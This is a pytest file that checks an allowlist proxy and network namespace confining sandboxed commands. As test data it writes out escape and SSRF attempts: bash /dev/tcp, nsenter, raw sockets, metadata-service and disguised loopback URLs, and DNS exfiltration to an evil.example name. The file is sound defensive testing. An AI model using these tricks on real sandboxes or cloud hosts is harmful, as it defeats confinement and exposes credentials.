"""A list of hosts, held by the kernel and a proxy: what is listed is reached, every other way out is tried, confined for real.

There is no internet here: `Outside` is the world beyond the proxy. Its names lead to public addresses, as a resolver would say,
and a connection to one of these is made to a server of the test.
"""

from __future__ import annotations

import asyncio
import os
import shlex
import socket
import ssl
import subprocess
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest
from support.confined import confined
from support.raw_server import read_request, response

from lmx_core import LocalEnvironment, ManualClock, Sandbox
from lmx_core.addresses import Refusal
from lmx_core.environment.base import Destination, Exit, TimedOut, asking
from lmx_core.environment.sandbox.network import command
from lmx_core.environment.sandbox.network.proxy import Connector

pytestmark = [confined, pytest.mark.asyncio]
Ground = Any

LISTED = ["listed.example", "*.wild.example", "tls.example", "git.example:2222", "inner.example", "10.1.2.3"]


class Outside(Connector):
    """`ports` are servers of the test by the address and port that a connection asks for; `made` what was connected to."""

    def __init__(self) -> None:
        self.names = {"inner.example": ["127.0.0.1"], "cloud.wild.example": ["169.254.169.254"]}
        self.ports: dict[int, int] = {}
        self.made, self.looked_up = list[tuple[str, int]](), list[str]()

    def lookup(self, host: str, port: int) -> Sequence[str]:
        self.looked_up.append(host)
        return self.names.get(host, ["93.184.215.14"])

    async def connect(self, machine: str, port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        self.made.append((machine, port))
        return await super().connect("127.0.0.1", self.ports[port])


Answer = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]


@asynccontextmanager
async def served(answer: Answer, **how: Any) -> AsyncIterator[int]:
    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await answer(reader, writer)
        except (OSError, asyncio.IncompleteReadError):
            pass
        finally:
            writer.close()

    server = await asyncio.start_server(serve, "127.0.0.1", 0, **how)
    try:
        yield server.sockets[0].getsockname()[1]
    finally:
        server.close()


class Web:
    """An HTTP server: what it was asked, head and body."""

    def __init__(self) -> None:
        self.asked: list[tuple[str, bytes]] = []

    async def __call__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head, body = await read_request(reader)
        self.asked.append((head.decode(), body))
        writer.write(response(b"the-page\n", kind="text/plain"))
        await writer.drain()


def listing(ground: Ground, outside: Outside, hosts: Sequence[str] = LISTED, **how: Any) -> Sandbox:
    """A sandbox whose proxy leads to the world of the test."""
    made = ground.sandbox(network=list(hosts), **how)
    assert made._proxy is not None
    made._proxy._lookup, made._proxy._connector = outside.lookup, outside
    return made


def python(code: str) -> str:
    return f"{shlex.quote(sys.executable)} -I -S -c {shlex.quote(code)}"


def saying(variable: str, then: str) -> str:
    """A program that connects to the proxy by itself; `s` is its socket, `who` the header that says which command it is."""
    return python(
        f"import base64, os, socket, sys, urllib.parse as u; p = u.urlsplit(os.environ[{variable!r}])\n"
        "s = socket.create_connection((p.hostname, p.port))\n"
        "who = 'Proxy-Authorization: Basic ' + base64.b64encode(f'{p.username}:x'.encode()).decode()\n"
        f"{then}"
    )


CURL = "curl -sS -m 10 "


# --- what is listed ---------------------------------------------------------------------------------------------------


async def test_en_9_a_listed_host_is_reached_and_others_are_not(ground: Ground) -> None:
    """cli.md 6: without a name being looked up inside; another is refused in words, at the end of the output too."""
    outside, web = Outside(), Web()
    async with served(web) as outside.ports[80]:
        sandbox = listing(ground, outside)
        said, end = await ground.run(
            sandbox, f"{CURL} http://listed.example/a; {CURL} http://a.wild.example/; {CURL} http://other.example/"
        )
    assert said == (
        "the-page\nthe-page\n"
        "lmx: other.example:80 is not reached from here: `network` of the sandbox does not list it\n"
        "[the sandbox: other.example:80 is not reached from here: `network` of the sandbox does not list it]\n"
    )
    assert end == Exit(0)
    assert outside.looked_up == ["listed.example", "a.wild.example"]
    assert outside.made == [("93.184.215.14", 80)] * 2
    first = web.asked[0][0].lower().split("\r\n")
    assert first[0] == "get /a http/1.1" and "host: listed.example" in first
    assert not [line for line in first if line.startswith("proxy")]


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> Path:
    where = tmp_path_factory.mktemp("tls") / "tls.pem"
    key = where.with_suffix(".key")
    subprocess.run(
        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=tls.example",
         "-addext", "subjectAltName=DNS:tls.example,DNS:other.example", "-keyout", key, "-out", where],
        check=True, capture_output=True,
    )  # fmt: skip
    where.write_bytes(where.read_bytes() + key.read_bytes())
    where.chmod(0o644)
    return where


async def test_a_tunnel_carries_tls_for_the_host_it_was_opened_for_only(ground: Ground, certificate: Path) -> None:
    """cli.md 6: a connection for another host of the same machine, inside the tunnel, is ended before a byte of it goes out."""
    outside, web = Outside(), Web()
    ours = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ours.load_cert_chain(certificate)
    inner = ground.work / "ca.pem"
    inner.write_bytes(certificate.read_bytes())
    async with served(web, ssl=ours) as outside.ports[443]:
        sandbox = listing(ground, outside)
        said, _ = await ground.run(sandbox, f"{CURL} --cacert ca.pem https://tls.example/x")
        assert said == "the-page\n" and len(web.asked) == 1
        fronted = CURL + "--cacert ca.pem --connect-to other.example:443:tls.example:443 https://other.example/"
        said, _ = await ground.run(sandbox, fronted)
        assert "was named to the proxy, and TLS inside the tunnel asks for other.example" in said
        plain = saying(
            "HTTPS_PROXY",
            "s.sendall(f'CONNECT tls.example:443 HTTP/1.1\\r\\n{who}\\r\\n\\r\\n'.encode()); s.recv(99)\n"
            "s.sendall(b'GET / HTTP/1.1\\r\\nHost: other.example\\r\\n\\r\\n'); print(s.recv(99))",
        )
        said, _ = await ground.run(sandbox, plain)
        assert "on the port of TLS, and what came was none" in said
    assert len(web.asked) == 1


async def test_a_port_that_is_named_carries_what_begins_from_outside(ground: Ground) -> None:
    """Of another protocol the server may speak first; no other port of the host is open."""
    outside = Outside()

    async def greets(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(b"SSH-2.0-hello\r\n")
        writer.write(b"got " + await reader.readexactly(3))
        await writer.drain()

    code = saying(
        "ALL_PROXY",
        "s.sendall(f'CONNECT {sys.argv[1]} HTTP/1.1\\r\\n{who}\\r\\n\\r\\n'.encode()); f = s.makefile('rb')\n"
        "print(f.readline().decode().strip()); f.readline(); print(f.readline().decode().strip())\n"
        "s.sendall(b'abc'); print(f.read(7).decode())",
    )
    async with served(greets) as outside.ports[2222]:
        said, _ = await ground.run(listing(ground, outside), f"{code} git.example:2222; {code} git.example:443")
    first, greeting, got, second, *_ = said.split("\n")
    assert (first, greeting, got) == ("HTTP/1.1 200 Connection established", "SSH-2.0-hello", "got abc")
    assert second.startswith("HTTP/1.1 403 Blocked by the sandbox: git.example:443")
    assert outside.made == [("93.184.215.14", 2222)]


@pytest.mark.parametrize("how", ["-d @body", "-H 'Transfer-Encoding: chunked' -d @body", "-T body"])
async def test_a_body_goes_along_whole(ground: Ground, how: str) -> None:
    outside = Outside()
    bodies = list[bytes]()

    async def reads(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        head = await reader.readuntil(b"\r\n\r\n")
        if b"expect" in head.lower():
            writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
        end = b"0\r\n\r\n" if b"chunked" in head else b"y" * 10
        bodies.append(await reader.readuntil(end))
        writer.write(response(b"thanks", kind="text/plain"))
        await writer.drain()

    (ground.work / "body").write_bytes(b"x" * 200_000 + b"y" * 10)
    async with served(reads, limit=2**20) as outside.ports[80]:
        said, _ = await ground.run(listing(ground, outside), f"{CURL} {how} http://listed.example/")
    assert said == "thanks" and bodies[0].count(b"x") == 200_000


async def test_the_commands_still_reach_each_other(ground: Ground) -> None:
    """cli.md 6: the loopback is theirs, and is not asked for through the proxy."""
    outside = Outside()
    said, _ = await ground.run(
        listing(ground, outside),
        f"{sys.executable} -I -m http.server -b 127.0.0.1 8123 >/dev/null 2>&1 & "
        f"for i in $(seq 100); do {CURL} -o out http://localhost:8123/ 2>/dev/null && break; sleep 0.05; done; "
        "grep -c listing out",
    )
    assert said.strip() == "2" and outside.made == []


# --- ways out ---------------------------------------------------------------------------------------------------------

DIRECT = {
    "by a number": "curl -sS -m 5 --noproxy '*' http://127.0.0.1:{port}/",
    "by a name": "curl -sS -m 5 --noproxy '*' http://localhost:{port}/",
    "NO_PROXY": "NO_PROXY='*' no_proxy='*' curl -sS -m 5 http://127.0.0.1:{port}/",
    "without the variables": "env -u http_proxy -u ALL_PROXY -u all_proxy curl -sS -m 5 http://127.0.0.1:{port}/",
    "bash": "exec 3<>/dev/tcp/127.0.0.1/{port}; printf 'GET / HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3",
}
"""Each leads to a server of this machine where nothing holds it in, so that it is known to be a way."""

ELSEWHERE = {
    "a public address": "curl -sS -m 5 --noproxy '*' http://93.184.215.14/",
    "IPv6": python("import socket; s = socket.socket(socket.AF_INET6); s.connect(('2606:2800:21f::1', 80))"),
    "UDP": python(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('8.8.8.8', 53))"
    ),
    "DNS": python("import socket; print(socket.getaddrinfo('listed.example', 80))"),
    "a raw socket": python("import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
    "a packet socket": python("import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
    "ping": python(
        "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1); s.sendto(b'x', ('8.8.8.8', 0))"
    ),
    "a vsock": python("import socket; socket.socket(40, socket.SOCK_STREAM)"),
    "another interface": "ip link add x type dummy; ip route add default dev lo; curl -m 3 --noproxy '*' http://8.8.8.8/",
    "the host's network": "nsenter -t 1 -n curl -sS -m 3 --noproxy '*' http://127.0.0.1/",
}


@pytest.mark.parametrize("way", DIRECT)
async def test_nothing_leads_around_the_proxy(ground: Ground, way: str) -> None:
    """EN-9, cli.md 6: no variable and no address gets around it; with the network on each of these ways leads out."""
    outside, web = Outside(), Web()
    async with served(web) as port:
        command = DIRECT[way].format(port=port)
        _, end = await ground.run(listing(ground, outside), command, timeout_ms=20_000)
        assert isinstance(end, Exit) and end.status != 0 and web.asked == [] and outside.made == []
        said, _ = await ground.run(ground.sandbox(network=True), command, timeout_ms=20_000)
    assert "the-page" in said and len(web.asked) == 1


async def test_there_is_nothing_else_in_the_network_of_commands(ground: Ground) -> None:
    """EN-9, cli.md 6: the namespace has a loopback and nothing else; nothing asks the proxy in the command's place."""
    outside = Outside()
    command = "\n".join(f"({way}) >/dev/null 2>&1; echo {shlex.quote(name)}: $?" for name, way in ELSEWHERE.items())
    said, _ = await ground.run(listing(ground, outside), command, timeout_ms=60_000)
    assert [line.split(":")[0] for line in said.splitlines()] == list(ELSEWHERE)
    assert not [line for line in said.splitlines() if line.endswith(": 0")]
    assert outside.made == [] == outside.looked_up


THROUGH = {
    "an unlisted host": "http://other.example/",
    "a host below": "http://x.listed.example/",
    "a host like it": "http://listed.example.evil.test/",
    "the host itself of a wildcard": "http://wild.example/",
    "a number": "http://93.184.215.14/",
    "a number in one piece": "http://1572395790/",
    "IPv6": "http://[2606:2800:21f::1]/",
    "another port": "http://listed.example:8080/",
    "the port of mail": "http://listed.example:25/",
    "loopback": "http://127.0.0.1:{port}/",
    "loopback by name": "http://localhost:{port}/",
    "loopback in one piece": "http://2130706433:{port}/",
    "loopback in IPv6": "http://[::1]:{port}/",
    "loopback mapped": "http://[::ffff:127.0.0.1]:{port}/",
    "any address": "http://0.0.0.0:{port}/",
    "a listed name that leads here": "http://inner.example/",
    "a listed name that leads to credentials": "http://cloud.wild.example/",
    "the metadata service": "http://169.254.169.254/",
    "the machine's own name": "http://{hostname}:{port}/",
    "a user part": "http://listed.example@127.0.0.1:{port}/",
}


async def test_the_proxy_leads_nowhere_else(ground: Ground) -> None:
    """cli.md 6: neither as plain HTTP nor through a tunnel, and above all not to this machine's own servers."""
    outside, web = Outside(), Web()
    async with served(web) as port:
        outside.ports |= dict.fromkeys((80, 443, 25, 8080, port), port)
        urls = [url.format(port=port, hostname=socket.gethostname()) for url in THROUGH.values()]
        command = "\n".join(f"{CURL} --noproxy '' {how} '{url}'; echo {url} $?" for url in urls for how in ("", "-p"))
        said, _ = await ground.run(listing(ground, outside), command, timeout_ms=60_000)
    assert web.asked == [] and outside.made == [] and "the-page" not in said, said
    assert said.count("http://") >= 2 * len(urls)
    tunnels = [line for line in said.splitlines() if line.startswith("http://")][1::2]
    assert not [line for line in tunnels if line.endswith(" 0")]


async def test_a_private_address_is_reached_only_where_it_is_listed_itself(ground: Ground) -> None:
    outside, web = Outside(), Web()
    async with served(web) as outside.ports[80]:
        said, _ = await ground.run(listing(ground, outside), f"{CURL} http://10.1.2.3/; {CURL} http://10.1.2.4/")
    assert said.startswith("the-page\n") and outside.made == [("10.1.2.3", 80)]


async def test_this_machine_is_not_reached_even_where_it_is_listed(ground: Ground) -> None:
    """cli.md 6: its loopback is not the commands', whatever a list says."""
    outside, web = Outside(), Web()
    async with served(web) as port:
        outside.ports[port] = port
        sandbox = listing(ground, outside, [f"127.0.0.1:{port}", f"[::ffff:127.0.0.1]:{port}", f"localhost:{port}"])
        outside.names["localhost"] = ["127.0.0.1"]
        urls = [f"http://{host}:{port}/" for host in ("127.0.0.1", "[::ffff:127.0.0.1]", "localhost")]
        said, _ = await ground.run(sandbox, "; ".join(f"{CURL} --noproxy '' {url}" for url in urls))
    assert web.asked == [] and said.count("lmx: ") == 3 and "is this machine itself" in said


async def test_many_connections_at_once_and_long_answers(ground: Ground) -> None:
    outside = Outside()

    async def long(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        await read_request(reader)
        writer.write(response(b"", kind="text/plain"))
        for _ in range(16):
            writer.write(b"x" * 65_536)
            await writer.drain()

    async with served(long) as outside.ports[80]:
        command = f"for i in $(seq 40); do {CURL} -m 60 http://listed.example/ | wc -c & done; wait"
        said, _ = await ground.run(listing(ground, outside), command, timeout_ms=60_000)
    assert said.split() == [str(16 * 65_536)] * 40


async def test_what_is_refused_is_not_looked_up(ground: Ground) -> None:
    """A name alone can carry something out, to whoever answers for its domain."""
    outside = Outside()
    await ground.run(
        listing(ground, outside), f"{CURL} http://the-secret.evil.example/; {CURL} https://the-secret.evil.example/"
    )
    assert outside.looked_up == []


async def test_a_second_request_behind_the_first_goes_nowhere(ground: Ground) -> None:
    """cli.md 6: a connection that was judged for one host carries nothing for another."""
    outside = Outside()
    heard = list[bytes]()

    async def hears(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append(await reader.readuntil(b"\r\n\r\n"))
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
        writer.write_eof()
        heard.append(await reader.read())

    code = saying(
        "HTTP_PROXY",
        "for n in ('listed', 'other'):\n"
        "    s.sendall(f'GET http://{n}.example/ HTTP/1.1\\r\\nHost: {n}.example\\r\\n{who}\\r\\n\\r\\n'.encode())\n"
        "s.shutdown(1); print(s.makefile('rb').read())",
    )
    async with served(hears) as outside.ports[80]:
        said, _ = await ground.run(listing(ground, outside), code)
    assert len(outside.made) == 1 and heard[0].startswith(b"GET / HTTP/1.1\r\nhost: listed.example\r\n")
    assert heard[1] == b"", said


async def test_the_proxy_is_there_for_confined_commands_only(ground: Ground) -> None:
    """Its socket is in their network: nobody else on this machine can use it, and none of its descriptors is passed on."""
    sandbox = listing(ground, Outside())
    assert sandbox._namespace is not None and sandbox._namespace.listener is not None
    port = sandbox._namespace.listener.getsockname()[1]
    with pytest.raises(OSError), socket.create_connection(("127.0.0.1", port), timeout=2) as stranger:
        stranger.sendall(b"CONNECT listed.example:443 HTTP/1.1\r\n\r\n")
        raise OSError if b"HTTP" not in stranger.recv(99) else AssertionError("it answers")
    said, _ = await ground.run(sandbox, "ls -l /proc/self/fd | grep -c socket")
    assert said.strip() == "0"


async def test_a_connection_that_is_no_commands_goes_nowhere(ground: Ground) -> None:
    """Rules are about commands: leaving its word out, or another's in its place, would be a way around them."""
    outside, web = Outside(), Web()
    async with served(web) as outside.ports[80]:
        sandbox = listing(ground, outside)
        port = sandbox._namespace.listener.getsockname()[1]
        for who in ("", "someone:x@", "0123456789abcdef:x@"):
            said, _ = await ground.run(
                sandbox, f"{CURL} -w '%{{http_code}}' -x http://{who}127.0.0.1:{port} http://listed.example/"
            )
            assert said == "lmx: The proxy of the sandbox wants the user name in its address\n407"
    assert outside.made == [] == outside.looked_up


async def test_git_which_says_who_it_is_when_it_is_asked(ground: Ground) -> None:
    outside, web = Outside(), Web()
    async with served(web) as outside.ports[80]:
        said, _ = await ground.run(
            listing(ground, outside),
            "git ls-remote http://listed.example/x.git; git ls-remote http://other.example/x.git",
        )
    assert [head.split()[1] for head, _ in web.asked] == ["/x.git/info/refs?service=git-upload-pack"]
    assert "[the sandbox: other.example:80 is not reached from here" in said


async def test_a_program_outside_is_not_reached_by_the_name_of_its_socket(
    ground: Ground, sockets_count_at_once: None
) -> None:
    """A list of hosts opens no other door than the network's (see `test_reach`)."""
    path = ground.outside / f"door-{os.getpid()}"
    with socket.socket(socket.AF_UNIX) as door:
        door.bind(str(path))
        door.listen()
        said, end = await ground.run(
            listing(ground, Outside()), python(f"import socket; socket.socket(socket.AF_UNIX).connect({str(path)!r})")
        )
    assert isinstance(end, Exit) and end.status != 0 and "refused" in said


async def test_en_8_what_the_person_has_set_for_proxies_is_not_used(ground: Ground) -> None:
    """A proxy of the person's own is not in the commands' network; theirs takes its place, in every spelling."""
    environ = ground.environ(HTTPS_PROXY="http://corp.example:3128", no_proxy="*")
    sandbox = listing(ground, Outside(), environ=environ)
    said, _ = await ground.run(sandbox, "env | grep -i _proxy=http; env | grep -i no_proxy")
    values = dict(line.split("=", 1) for line in said.split())
    assert {value.split("@")[-1] for name, value in values.items() if "no_" not in name.lower()} == {
        f"127.0.0.1:{sandbox._namespace.listener.getsockname()[1]}"
    }
    assert values["no_proxy"] == values["NO_PROXY"] == "localhost,127.0.0.1,::1"


# --- questions --------------------------------------------------------------------------------------------------------


class Person:
    """Answers what is asked, and notes it."""

    def __init__(self, answer: Refusal | None = None):
        self.answer, self.asked = answer, list[Destination]()

    async def __call__(self, destination: Destination) -> Refusal | None:
        self.asked.append(destination)
        return None if destination.listed else self.answer


async def test_who_is_asked_opens_a_host_for_this_command_and_once(ground: Ground) -> None:
    outside, web, person = Outside(), Web(), Person()
    async with served(web) as outside.ports[80]:
        sandbox = listing(ground, outside, [])
        said, _ = await ground.run(
            asking(sandbox, person),
            f"{CURL} http://a.example/1; {CURL} http://a.example/2 & {CURL} http://b.example/; wait",
        )
        assert said == "the-page\n" * 3
        assert sorted(asked.host for asked in person.asked) == ["a.example", "b.example"]
        said, _ = await ground.run(sandbox, f"{CURL} http://a.example/")
        assert "does not list it" in said


async def test_a_listed_host_waits_for_no_question(ground: Ground) -> None:
    """What a program fetches beside must not time out while a person reads."""
    asked, answer = asyncio.Event(), asyncio.Event()

    async def slow(destination: Destination) -> Refusal | None:
        if not destination.listed:
            asked.set()
            await answer.wait()
        return None

    outside, web = Outside(), Web()
    async with served(web) as outside.ports[80], asyncio.TaskGroup() as group:
        sandbox = asking(listing(ground, outside), slow)
        later = f"until [ -e go ]; do sleep 0.02; done; {CURL} http://listed.example/ > got; touch over"
        both = f"{CURL} http://a.example/ & {later}; wait"
        running = group.create_task(ground.run(sandbox, both, timeout_ms=30_000))
        await asked.wait()
        (ground.work / "go").touch()
        while not (ground.work / "over").exists():
            await asyncio.sleep(0.01)
        assert (ground.work / "got").read_text() == "the-page\n"
        answer.set()
        said, _ = await running
    assert said == "the-page\n"


async def test_a_command_that_makes_up_names_is_cut_short(ground: Ground, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(command, "MOST_HOSTS", 3)
    person = Person(Refusal("is not reached from here: no"))
    ask = f"for i in 1 2 3 4 5; do {CURL} http://a$i.example/; done"
    said, _ = await ground.run(asking(listing(ground, Outside(), []), person), ask)
    assert len(person.asked) == 3 and said.count("lmx: ") == 5 and "the command has tried 3 hosts" in said


async def test_a_refusal_stands_for_the_command_and_opens_nothing(ground: Ground) -> None:
    outside, person = Outside(), Person(Refusal("is not reached from here: no"))
    said, _ = await ground.run(
        asking(listing(ground, outside, []), person),
        f"{CURL} http://a.example/; {CURL} http://a.example/; {CURL} http://10.9.9.9/",
    )
    assert [asked.host for asked in person.asked] == ["a.example"]  # and nobody is asked about what nobody can allow
    assert said.count("lmx: a.example:80 is not reached from here: no") == 2 and outside.made == []


async def test_an_answer_opens_no_way_to_this_machine(ground: Ground) -> None:
    """A person who allows a name has not seen where it leads."""
    outside, web, person = Outside(), Web(), Person()
    async with served(web) as outside.ports[80]:
        said, _ = await ground.run(asking(listing(ground, outside, []), person), f"{CURL} http://inner.example/")
    assert web.asked == [] and "inner.example:80 leads to 127.0.0.1, which is this machine itself" in said


async def test_di_4_the_time_limit_is_held_while_a_person_is_asked(ground: Ground) -> None:
    """DI-4: however long they take."""
    clock, asked, answer = ManualClock(), asyncio.Event(), asyncio.Event()

    async def slow(destination: Destination) -> Refusal | None:
        asked.set()
        await answer.wait()
        return None

    outside, web = Outside(), Web()
    async with served(web) as outside.ports[80], asyncio.TaskGroup() as group:
        made = Sandbox.new(network=[], inner=LocalEnvironment(environ=ground.environ(), clock=clock))
        assert made._proxy is not None
        made._proxy._lookup, made._proxy._connector = outside.lookup, outside
        running = group.create_task(
            ground.run(asking(made, slow), "curl -sS http://a.example/ > got; touch over; sleep 60", timeout_ms=5_000)
        )
        await asked.wait()
        await clock.advance(3_600_000)
        answer.set()
        while not (ground.work / "over").exists():
            await asyncio.sleep(0.01)
        await clock.await_timer(lambda ms: ms == 5_000)
        await clock.advance(5_000)
        _, end = await running
    assert (ground.work / "got").read_text() == "the-page\n" and isinstance(end, TimedOut)


async def test_a_command_that_is_ended_takes_its_question_with_it(ground: Ground) -> None:
    asked, gone = asyncio.Event(), asyncio.Event()

    async def waits(destination: Destination) -> Refusal | None:
        asked.set()
        try:
            await asyncio.Event().wait()
        finally:
            gone.set()
        return None

    async with asyncio.TaskGroup() as group:
        running = group.create_task(
            ground.run(asking(listing(ground, Outside(), []), waits), f"{CURL} -m 100 http://a.example/")
        )
        await asked.wait()
        running.cancel()
        await gone.wait()


async def test_nothing_is_left_listening_when_no_command_runs(ground: Ground) -> None:
    sandbox = listing(ground, Outside())
    assert sandbox._proxy is not None
    await ground.run(sandbox, "true")
    assert sandbox._proxy._servers == {} and sandbox._proxy._commands == {}
